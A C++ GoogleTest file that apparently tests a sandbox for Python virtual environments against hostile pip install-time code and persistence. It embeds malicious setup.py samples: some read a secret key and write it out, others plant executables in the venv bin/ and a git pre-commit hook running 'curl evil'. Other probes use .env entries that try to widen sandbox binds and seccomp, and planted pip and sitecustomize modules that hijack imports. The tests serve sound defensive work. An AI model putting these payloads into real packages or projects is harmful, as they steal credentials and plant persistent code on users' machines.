// Hostile probes from pip install-time code (setup.py) and persistence across runs.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include "support.h"

namespace vx::test {
namespace {

TEST(InstallTime, SetupPyCannotReadTheHomeKeyOrWriteOutsideTheProject) {
  TempProject p = make_project(true, "proj", true);
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  std::string loot = p.root + "/loot";
  std::string setup =
      "import os\nfrom setuptools import setup\n"
      "try:\n    key = open('" +
      p.secret_path +
      "').read()\nexcept OSError as e:\n    key = 'ERR%d' % e.errno\n"
      "try:\n    open('" +
      loot +
      "', 'w').write(key)\nexcept OSError:\n    pass\n"
      "open('stolen.txt', 'w').write(key)\n"
      "setup(name='thief', version='1.0', py_modules=[])\n";
  ASSERT_EQ(mkdir((p.project + "/thief").c_str(), 0755), 0);
  write_file(p.project + "/thief/setup.py", setup);
  // Positive control: the same build step run on the host takes the key.
  RunResult host =
      run({"/usr/bin/python3", "setup.py", "--name"}, base_env(p), p.project + "/thief");
  EXPECT_EQ(read_file(p.project + "/thief/stolen.txt"), p.secret + "\n") << host.err;
  unlink(loot.c_str());
  RunResult pip =
      run({p.venv + "/bin/pip", "install", "-q", "--no-index", "--no-build-isolation", "./thief"},
          base_env(p), p.project);
  EXPECT_EQ(pip.status, 0) << pip.err;
  EXPECT_EQ(read_file(p.project + "/thief/stolen.txt"), "ERR2");
  EXPECT_FALSE(exists(loot));
}

TEST(Persistence, GitHookPlantedWhereNoGitExistedIsReported) {
  TempProject p = make_project(true);
  RunResult r = run_launcher(p, {"/bin/sh", "-c",
                                 "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil\\n' > "
                                 ".git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(exists(p.project + "/.git/hooks/pre-commit"));  // the project is writable
  EXPECT_NE(r.err.find("warning: the sandbox created " + p.project + "/.git"), std::string::npos)
      << r.err;
  // From then on .git is read-only inside: the hook cannot be changed by the next run.
  RunResult next = run_launcher(p, {"/bin/sh", "-c", "echo more >> .git/hooks/pre-commit"});
  EXPECT_EQ(next.status, 2);  // sh: the redirection failed
  EXPECT_NE(next.err.find("Read-only file system"), std::string::npos) << next.err;
}

TEST(Persistence, DotenvCannotRelaxTheNextRun) {
  TempProject p = make_project(true);
  RunResult plant = run_launcher(p, {"/bin/sh", "-c",
                                     "printf 'VENV_EXEC_ARGS=--bind / /host\\nBWRAP_ARGS=--bind / "
                                     "/host\\nSANDBOX_SECCOMP_ALLOW=\\n' > .env"});
  EXPECT_EQ(plant.status, 0);
  RunResult next = sandbox_probe(p,
                                 "print(os.path.exists('/host'), open('/proc/self/status').read()"
                                 ".split('Seccomp:')[1].split()[0])\n");
  EXPECT_EQ(next.out, "False 2\n") << next.err;
  EXPECT_NE(next.err.find("is ignored"), std::string::npos);
}

// A build step that plants ways to run code on the host, outside the sandbox:
// A: replace bin/shell; B: rename bin/ away and put one with its own activate in its place;
// C: executables named like hidden or activate files; D: a link to a project file that a
// later run makes executable. Each plant proves itself by leaving a trace.
const char* const kPlanter =
    "import os, sys\n"
    "b = os.path.join(sys.prefix, 'bin')\n"
    "evil = '#!/bin/sh\\ncat %s\\n'\n"
    "def put(path, body):\n"
    "    open(path, 'w').write(body)\n"
    "    os.chmod(path, 0o755)\n"
    "try:\n"
    "    os.rename(b, b + '.old')\n"
    "    os.mkdir(b)\n"
    "    put(os.path.join(b, 'activate'), evil % SECRET)\n"
    "    open('renamed.txt', 'w').write('yes')\n"
    "except OSError as e:\n"
    "    open('renamed.txt', 'w').write('no %d' % e.errno)\n"
    "if os.path.isdir(b + '.old'):\n"
    "    sys.exit(0)\n"
    "if os.path.lexists(os.path.join(b, 'shell')):\n"
    "    os.unlink(os.path.join(b, 'shell'))\n"
    "put(os.path.join(b, 'shell'), evil % SECRET)\n"
    "put(os.path.join(b, '.hidden'), evil % SECRET)\n"
    "put(os.path.join(b, 'activate-evil'), evil % SECRET)\n"
    "open('tool.txt', 'w').write(evil % SECRET)\n"
    "if not os.path.lexists(os.path.join(b, 'tool')):\n"
    "    os.symlink(os.path.abspath('tool.txt'), os.path.join(b, 'tool'))\n"
    "from setuptools import setup\n"
    "setup(name='planter', version='1.0', py_modules=[])\n";

// The secret's path is written into the script: the sandbox's environment does not carry it.
std::string planter(const TempProject& p) {
  return "SECRET = '" + p.secret_path + "'\n" + kPlanter;
}

TEST(InstallTime, PlantsInBinCannotRunOnTheHost) {
  TempProject p = make_project(true, "proj", true);
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  std::string activate = read_file(p.venv + "/bin/activate");
  ASSERT_EQ(mkdir((p.project + "/planter").c_str(), 0755), 0);
  write_file(p.project + "/planter/setup.py", planter(p));
  std::vector<std::string> env = base_env(p);
  env.push_back("SECRET_PATH=" + p.secret_path);
  RunResult pip =
      run({p.venv + "/bin/pip", "install", "-q", "--no-index", "--no-build-isolation", "./planter"},
          env, p.project);
  EXPECT_EQ(pip.status, 0) << pip.out << pip.err;
  // B: bin/ is a mount point during pip: it cannot be renamed (EBUSY).
  EXPECT_EQ(read_file(p.project + "/planter/renamed.txt"), "no 16");
  EXPECT_EQ(read_file(p.venv + "/bin/activate"), activate);
  EXPECT_FALSE(exists(p.venv + "/bin.old"));
  // A: pip wrote a shell into its staged bin/ (the trace), which was not published.
  EXPECT_NE(pip.err.find("shell: venv-exec's own entry"), std::string::npos) << pip.err;
  // A, C, D: every planted entry is a wrapper now and runs sandboxed, where the key is absent.
  write_file(p.project + "/planter/tool.txt", read_file(p.project + "/planter/tool.txt"), 0755);
  for (const char* name : {"shell", ".hidden", "activate-evil", "tool"}) {
    char buf[4096];
    ssize_t n = readlink((p.venv + "/bin/" + name).c_str(), buf, sizeof buf);
    ASSERT_GT(n, 0) << name;
    EXPECT_EQ(std::string(buf, static_cast<size_t>(n)), launcher_path()) << name;
    if (std::string(name) == "shell") continue;  // the wrapper's shell is bash, not the plant
    EXPECT_TRUE(exists(p.venv + "/venv-exec/real/" + name)) << name;  // the plant ran
    RunResult r = run({p.venv + "/bin/" + name}, base_env(p), p.project);
    EXPECT_EQ(r.out.find(p.secret), std::string::npos) << name << " leaked the key";
  }
  RunResult sh = run({p.venv + "/bin/shell", "-c", "cat " + p.secret_path + " || echo denied"},
                     base_env(p), p.project);
  EXPECT_EQ(sh.out, "denied\n");
}

TEST(InstallTime, RenamingBinWorksOnAnUnprotectedVenv) {
  // Positive control for B: the same build step on the host renames bin/ and plants activate.
  TempProject p = make_project(true);
  ASSERT_EQ(mkdir((p.project + "/planter").c_str(), 0755), 0);
  write_file(p.project + "/planter/setup.py", planter(p));
  std::vector<std::string> env = base_env(p);
  env.push_back("SECRET_PATH=" + p.secret_path);
  run({p.venv + "/bin/python", "setup.py", "--name"}, env, p.project + "/planter");
  EXPECT_EQ(read_file(p.project + "/planter/renamed.txt"), "yes");
  EXPECT_NE(read_file(p.venv + "/bin/activate").find(p.secret_path), std::string::npos);
}

// pip may have more than the venv's other runs (the venv writable, --pip-net): what another
// run leaves in the project does not steer it. A pip/__main__.py planted in the working
// directory and a .env naming PYTHONPATH are ignored by `python -m pip`; the controls show that
// each would run otherwise (the planted module unwrapped, the .env in an ordinary run).
TEST(InstallTime, WhatOtherRunsPlantInTheProjectDoesNotSteerPip) {
  TempProject p = make_project(true, "proj", true);
  ASSERT_EQ(mkdir((p.project + "/pip").c_str(), 0755), 0);
  write_file(p.project + "/pip/__init__.py", "");
  write_file(p.project + "/pip/__main__.py", "print('PLANTED pip')\n");
  ASSERT_EQ(mkdir((p.project + "/evil").c_str(), 0755), 0);
  write_file(p.project + "/evil/sitecustomize.py", "print('PLANTED sitecustomize')\n");
  write_file(p.project + "/.env", "PYTHONPATH=" + p.project + "/evil\n");
  RunResult control = run({"/usr/bin/python3", "-m", "pip", "--version"}, base_env(p), p.project);
  ASSERT_EQ(control.out, "PLANTED pip\n") << control.err;
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  RunResult ordinary = run({p.venv + "/bin/python", "-c", "pass"}, base_env(p), p.project);
  ASSERT_EQ(ordinary.out, "PLANTED sitecustomize\n") << ordinary.err;
  for (const std::string& pip : {p.venv + "/bin/python", p.venv + "/bin/pip"}) {
    std::vector<std::string> argv = {pip};
    if (pip.ends_with("python")) argv.insert(argv.end(), {"-m", "pip"});
    argv.push_back("--version");
    RunResult r = run(argv, base_env(p), p.project);
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_EQ(r.out.find("PLANTED"), std::string::npos) << pip << ": " << r.out;
    EXPECT_EQ(r.out.rfind("pip ", 0), 0u) << pip << ": " << r.out;
  }
}

}  // namespace
}  // namespace vx::test
